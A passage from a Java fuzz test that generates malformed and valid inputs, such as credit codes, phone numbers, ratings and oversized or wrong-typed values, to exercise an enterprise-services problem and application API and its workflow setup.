                Tuple.of(4, Arbitraries.integers().between(max + 1, max * 3).map(n -> (Object) "长".repeat(n))),
                Tuple.of(3, Arbitraries.of("", " ", "\t\n ", "\u3000").map(v -> (Object) v)),
                Tuple.of(3, Combinators.combine(plainText(20), Arbitraries.chars().range('\u0000', '\u001f'))
                        .as((t, c) -> (Object) (t.toString() + c + "后"))),
                Tuple.of(6, Arbitraries.of(HOSTILE).map(v -> (Object) v)),
                Tuple.of(4, Arbitraries.of(ODD_UNICODE).map(v -> (Object) v)),
                Tuple.of(6, wrongType()));
    }

    static Arbitrary<Object> plainText(int max) {
        return Arbitraries.strings().withChars("企业服务中心问题办理反馈评价有限公司浙江德清厂房用电水").withCharRange('a', 'z')
                .withChars(" 0123456789,.，。-").ofMinLength(1).ofMaxLength(Math.min(max, 80))
                .filter(t -> !t.isBlank()).map(v -> (Object) v);
    }

    static Arbitrary<Object> wrongType() {
        return Arbitraries.frequencyOf(
                Tuple.of(2, Arbitraries.integers().map(v -> (Object) v)),
                Tuple.of(1, Arbitraries.longs().map(v -> (Object) v)),
                Tuple.of(1, Arbitraries.doubles().map(v -> (Object) v)),
                Tuple.of(1, Arbitraries.of(true, false).map(v -> (Object) v)),
                Tuple.of(2, Arbitraries.strings().ofMaxLength(10).list().ofMaxSize(3).map(v -> (Object) v)),
                Tuple.of(2, Arbitraries.just((Object) Map.of("nested", Map.of("deeper", List.of(1, "x"))))),
                Tuple.of(1, Arbitraries.just((Object) new java.math.BigDecimal("1e400"))));
    }

    static Arbitrary<Object> creditCode() {
        return Arbitraries.frequencyOf(
                Tuple.of(24, validCreditCode().map(v -> (Object) v)),
                Tuple.of(2, validCreditCode().map(v -> (Object) (" " + v.toLowerCase() + " "))),
                Tuple.of(3, validCreditCode().map(v -> (Object) (v.substring(0, 17) + (v.charAt(17) == '0' ? '1' : '0')))),
                Tuple.of(2, validCreditCode().map(v -> (Object) (v.substring(0, 5) + "IOZSV".charAt(Math.abs(v.hashCode()) % 5)
                        + v.substring(6)))),
                Tuple.of(2, validCreditCode().map(v -> (Object) v.substring(0, 17))),
                Tuple.of(2, validCreditCode().map(v -> (Object) (v + "0"))),
                Tuple.of(5, text(18)));
    }

    static Arbitrary<String> validCreditCode() {
        Arbitrary<Character> any = Arbitraries.of(CHARSET.chars().mapToObj(c -> (char) c).toList());
        Arbitrary<Character> digit = Arbitraries.chars().range('0', '9');
        return Combinators.combine(any.list().ofSize(2), digit.list().ofSize(6), any.list().ofSize(9)).as((a, b, c) -> {
            StringBuilder first17 = new StringBuilder();
            a.forEach(first17::append);
            b.forEach(first17::append);
            c.forEach(first17::append);
            return first17.toString() + CreditCode.checkCharacter(first17.toString());
        });
    }

    static Arbitrary<String> validPhone() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.strings().numeric().ofLength(9).map(d -> "13" + d)),
                Tuple.of(1, Arbitraries.strings().numeric().ofLength(8).map(d -> "0572-" + d)),
                Tuple.of(1, Arbitraries.strings().numeric().ofLength(7).map(d -> "057" + d + "-123")));
    }

    static Arbitrary<Object> phone() {
        return Arbitraries.frequencyOf(
                Tuple.of(20, validPhone().map(v -> (Object) v)),
                Tuple.of(4, Arbitraries.of("12345", "1380000000a", "23800000000", "138000000000", "0572-88", "+8613800000000",
                        "138 0000 0000", "１３８００００００００").map(v -> (Object) v)),
                Tuple.of(4, text(20)));
    }

    static Arbitrary<Object> channel() {
        return Arbitraries.frequencyOf(
                Tuple.of(20, Arbitraries.of("WINDOW", "HOTLINE", "ONLINE", "VISIT", "PLATFORM", "hotline", " Online ")
                        .map(v -> (Object) v)),
                Tuple.of(4, Arbitraries.of("FAX", "EMAIL", "WINDOW ONLINE", "ＷＩＮＤＯＷ").map(v -> (Object) v)),
                Tuple.of(4, text(16)));
    }

    static Arbitrary<Object> rating() {
        return Arbitraries.frequencyOf(
                Tuple.of(12, Arbitraries.of("SATISFIED", "BASICALLY_SATISFIED", "UNSATISFIED").map(v -> (Object) v)),
                Tuple.of(3, Arbitraries.of("satisfied", " SATISFIED", "GREAT", "满意", "5").map(v -> (Object) v)),
                Tuple.of(5, text(20)));
    }

    /** A list of codes: known ones (repeated now and then), unknown ones, nulls, or not a list at all. */
    static Arbitrary<Object> codes(List<String> known) {
        Arbitrary<String> code = known.isEmpty() ? Arbitraries.just("none")
                : Arbitraries.frequencyOf(Tuple.of(8, Arbitraries.of(known)),
                        Tuple.of(1, Arbitraries.strings().ofMaxLength(30)), Tuple.of(1, Arbitraries.of(HOSTILE)));
        return Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.just(ABSENT)), Tuple.of(2, Arbitraries.just(NULL)),
                Tuple.of(10, code.list().ofMaxSize(Math.max(1, known.size())).map(v -> (Object) v)),
                Tuple.of(2, code.list().ofMinSize(2).ofMaxSize(4).map(l -> (Object) concatList(l, l))),
                Tuple.of(2, Arbitraries.just((Object) Arrays.asList("x", null, 3))),
                Tuple.of(3, wrongType()), Tuple.of(1, text(30)));
    }

    /** A list of material names: the guide's, free text, too many, too long, blank, or not a list. */
    static Arbitrary<Object> materialList(List<String> guide) {
        Arbitrary<String> name = Arbitraries.frequencyOf(
                Tuple.of(8, Arbitraries.of(guide)),
                Tuple.of(3, plainText(200).map(Object::toString)),
                Tuple.of(1, Arbitraries.of(HOSTILE)), Tuple.of(1, Arbitraries.of(ODD_UNICODE)),
                Tuple.of(1, Arbitraries.of("", " ", "长".repeat(201), "换行\n名称")),
                Tuple.of(1, Arbitraries.strings().withChars("材料").ofLength(200)));
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.just(ABSENT)), Tuple.of(2, Arbitraries.just(NULL)),
                Tuple.of(12, name.list().ofMaxSize(8).map(v -> (Object) v)),
                Tuple.of(3, name.list().ofMinSize(20).ofMaxSize(60).map(v -> (Object) v)),
                Tuple.of(2, Arbitraries.just((Object) Arrays.asList("营业执照", null))),
                Tuple.of(3, wrongType()));
    }

    static Arbitrary<String> accept() {
        return Arbitraries.frequencyOf(
                Tuple.of(30, Arbitraries.just("application/json")), Tuple.of(5, Arbitraries.just("*/*")),
                Tuple.of(1, Arbitraries.just("text/html")), Tuple.of(1, Arbitraries.just("image/png")),
                Tuple.of(1, Arbitraries.just("application/xml;q=0.9, */*;q=0.1")), Tuple.of(1, Arbitraries.just("x")));
    }

    static Arbitrary<String> problemPath(String suffix) {
        return Arbitraries.frequencyOf(
                Tuple.of(14, Arbitraries.just("").map(x -> "/api/problems/" + pathId(suffix) + suffix)),
                Tuple.of(1, Arbitraries.of("999999999", "-1", "abc", "99999999999999999999", "1.5", "%20")
                        .map(id -> "/api/problems/" + id + suffix)));
    }

    static Arbitrary<String> applicationPath(String suffix) {
        return Arbitraries.frequencyOf(
                Tuple.of(14, Arbitraries.just("").map(x -> "/api/applications/" + missingMaterials + suffix)),
                Tuple.of(1, Arbitraries.of("999999999", "-1", "abc", "99999999999999999999", "0x10")
                        .map(id -> "/api/applications/" + id + suffix)));
    }

    static long pathId(String suffix) {
        return "/supplement".equals(suffix) ? waitingProblem : awaitingRating;
    }

    // ---- the records the fuzz works on ------------------------------------------------------------------------------

    static int enterprise = 70_000;

    static Problem submitted() {
        String first17 = "91330599" + String.format("%09d", enterprise++);
        return problems.submit(new ProblemSubmission(first17 + CreditCode.checkCharacter(first17), "模糊测试企业有限公司", "钱七",
                "13600000000", "HOTLINE", "模糊测试问题", "用于接口模糊测试", "证照"), "channel1", null);
    }

    static Task task(Problem problem, String key) {
        return engine.getTaskService().createTaskQuery().processInstanceId(problem.processInstanceId())
                .taskDefinitionKey(key).singleResult();
    }

    /** A problem at its lead department, which asked the enterprise for more (so a supplement is welcome). */
    static long waitingProblem() {
        Problem p = submitted();
        Staff.complete(engine, task(p, "acceptProblem"), "frontdesk1", "acceptDecision", "ACCEPT", "problemClass", "SINGLE",
                "category", "证照");
        Staff.complete(engine, task(p, "assignProblem"), "dispatcher1", "route", "DEPARTMENT", "leadDepartment", "amr",
                "cooperatingDepartments", List.of());
        Staff.complete(engine, task(p, "signFor"), "amr1", "signDecision", "SIGN");
        waitAgain(p.id());
        return p.id();
    }

    static void waitAgain(long id) {
        Staff.complete(engine, task(problems.get(id), "handleProblem"), "amr1", "handleDecision", "WAIT",
                "supplementRequest", "请补充材料");
    }

    /** A problem answered and reviewed, waiting for the enterprise's rating. */
    static long awaitingRating() {
        Problem p = submitted();
        Staff.complete(engine, task(p, "acceptProblem"), "frontdesk1", "acceptDecision", "ACCEPT", "problemClass", "SINGLE",
                "category", "证照");
        Staff.complete(engine, task(p, "assignProblem"), "dispatcher1", "route", "DEPARTMENT", "leadDepartment", "amr",
                "cooperatingDepartments", List.of());
        Staff.complete(engine, task(p, "signFor"), "amr1", "signDecision", "SIGN");
        Staff.complete(engine, task(p, "handleProblem"), "amr1", "handleDecision", "ANSWER", "answer", "已处理");
        Staff.complete(engine, task(p, "reviewAnswer"), "dispatcher1", "reviewDecision", "APPROVE");
        return p.id();
    }

    /** An application whose materials check found some missing (so the channel may send them). */
    static long missingMaterials() {
        String first17 = "91330599" + String.format("%09d", enterprise++);
        Application a = scenarios.apply("companyOpening", new ApplicationRequest(first17 + CreditCode.checkCharacter(first17),
                "模糊测试企业有限公司", "钱七", "13600000000", "ONLINE", List.of(), List.of(), null), "channel1", null);
        askForMaterials(a.id());
        assertThat(scenarios.get(a.id()).status()).isEqualTo(ApplicationStatus.MATERIALS_MISSING);
        return a.id();
    }

    static void askForMaterials(long id) {
        Task check = engine.getTaskService().createTaskQuery().processInstanceBusinessKey(scenarios.get(id).applicationNo())
                .taskDefinitionKey("checkMaterials").singleResult();
        Staff.complete(engine, check, "frontdesk1", "missingMaterials",
                scenarios.scenario("companyOpening").guide().materials().subList(0, 2));
    }

    // ---- helpers --------------------------------------------------------------------------------------------------------

    static byte[] toJson(Object value) {
        try {
            return JSON.writeValueAsBytes(value);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static String preview(byte[] body) {
        String text = new String(body, StandardCharsets.UTF_8);
        return text.length() > 300 ? text.substring(0, 300) + "…(" + body.length + " bytes)" : text;
    }

    static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    static int indexOf(byte[] bytes, byte b, int from) {
        for (int i = from; i < bytes.length; i++) {
            if (bytes[i] == b) {
                return i;
            }
        }
        return -1;
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] both = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }

    static List<String> concatList(List<String> a, List<String> b) {
        List<String> both = new ArrayList<>(a);
        both.addAll(b);
        return both;
    }
}
